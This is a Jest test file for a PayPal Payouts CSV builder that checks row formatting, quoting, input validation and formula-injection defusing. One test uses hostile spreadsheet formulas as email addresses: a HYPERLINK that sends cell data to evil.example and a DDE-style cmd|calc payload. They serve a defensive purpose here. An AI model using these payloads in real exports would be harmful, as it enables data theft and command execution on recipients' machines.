import { buildPayPalPayoutsCsv, payoutNote } from './paypal-payouts-csv';

describe('PayPal Payouts CSV', () => {
  const note = 'Reelmix affiliate commissions, March 2026';

  it('has one line per payout: recipient, amount, currency, reference, note, wallet; no header', () => {
    const csv = buildPayPalPayoutsCsv([
      { email: 'ada@example.com', amountCents: 5000, reference: 'PO-20260301-AAAAAAAA', note },
      { email: 'grace@example.com', amountCents: 123456, reference: 'PO-20260301-BBBBBBBB', note },
    ]);
    expect(csv).toBe(
      'ada@example.com,50.00,USD,PO-20260301-AAAAAAAA,"Reelmix affiliate commissions, March 2026",PAYPAL\r\n' +
        'grace@example.com,1234.56,USD,PO-20260301-BBBBBBBB,"Reelmix affiliate commissions, March 2026",PAYPAL\r\n',
    );
  });

  it('is empty when there is nobody to pay', () => {
    expect(buildPayPalPayoutsCsv([])).toBe('');
  });

  it('defuses an address a spreadsheet would run as a formula, as every CSV the product writes does', () => {
    const hostile = [
      '=HYPERLINK("https://evil.example/?"&A1,"Open")@example.com',
      '+1+cmd|calc@example.com',
      '-2+3@example.com',
      '@SUM(A1)@example.com',
      '\t=1+1@example.com',
    ];
    const csv = buildPayPalPayoutsCsv(hostile.map((email, i) => ({ email, amountCents: 5000, reference: `PO-${i}`, note: 'n' })));
    expect(csv.split('\r\n').filter(Boolean)).toEqual([
      `"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")@example.com",50.00,USD,PO-0,n,PAYPAL`,
      "'+1+cmd|calc@example.com,50.00,USD,PO-1,n,PAYPAL",
      "'-2+3@example.com,50.00,USD,PO-2,n,PAYPAL",
      "'@SUM(A1)@example.com,50.00,USD,PO-3,n,PAYPAL",
      "'\t=1+1@example.com,50.00,USD,PO-4,n,PAYPAL",
    ]);
  });

  it('quotes an address that needs it', () => {
    const csv = buildPayPalPayoutsCsv([{ email: '"odd,one"@example.com', amountCents: 7501, reference: 'PO-X', note: 'n' }]);
    expect(csv).toBe('"""odd,one""@example.com",75.01,USD,PO-X,n,PAYPAL\r\n');
  });

  it('refuses amounts that are not positive and references PayPal would reject', () => {
    expect(() => buildPayPalPayoutsCsv([{ email: 'a@example.com', amountCents: 0, reference: 'PO-X', note }])).toThrow();
    expect(() => buildPayPalPayoutsCsv([{ email: 'a@example.com', amountCents: 5000, reference: 'has space', note }])).toThrow();
    expect(() => buildPayPalPayoutsCsv([{ email: 'a@example.com', amountCents: 5000, reference: 'X'.repeat(31), note }])).toThrow();
  });

  it('notes the month the payout covers', () => {
    expect(payoutNote(new Date('2026-03-01T00:30:00.000Z'))).toBe(note);
  });
});
